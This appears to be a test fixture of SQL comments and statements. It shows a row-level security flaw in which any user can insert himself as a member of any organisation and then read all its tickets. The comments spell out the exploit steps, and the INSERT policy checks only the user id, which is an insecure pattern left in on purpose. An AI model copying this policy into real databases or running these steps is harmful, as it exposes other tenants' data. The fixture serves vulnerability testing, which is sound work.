-- A user writes a membership row for himself in any organisation and then sees all of it.
-- about: members, join_self
-- as: hf_deskline_app
-- exploit: SET request.jwt.claims = '{"sub":"a0000000-0000-4000-8000-000000000001","role":"authenticated"}';
-- exploit: INSERT INTO public.members (org_id, user_id, display_name)
-- exploit:   VALUES ('b0000000-0000-4000-8000-000000000000', 'a0000000-0000-4000-8000-000000000001', 'Ann');
-- exploit: SELECT subject FROM public.tickets;
-- shows: Road-secret subject
-- After the sign-up the front end adds the first member by itself.
GRANT INSERT ON public.members TO hf_deskline_app;
CREATE POLICY join_self ON public.members FOR INSERT WITH CHECK (user_id = auth.uid());
